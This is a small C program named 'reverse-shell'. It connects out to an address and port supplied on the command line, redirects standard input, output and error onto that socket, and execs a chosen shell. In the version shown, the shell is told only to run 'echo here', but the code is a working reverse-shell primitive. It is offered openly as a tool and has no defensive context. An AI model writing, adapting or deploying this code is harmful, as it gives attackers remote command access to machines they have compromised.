/* reverse-shell ADDRESS PORT SHELL: calls back and hands the connection to a shell. */
#include "peer.h"

int main(int argc, char **argv)
{
	union peer peer;

	if (argc != 4)
		usage("ADDRESS PORT SHELL");
	socklen_t length = peer_of(&peer, argv[1], argv[2]);
	int made = must(socket(peer.any.sa_family, SOCK_STREAM, 0), "socket");
	must(connect(made, &peer.any, length), "connect");
	for (int i = 0; i < 3; i++)
		must(dup2(made, i), "dup2");
	execl(argv[3], "sh", "-c", "echo here", NULL);
	fail(argv[3]);
}
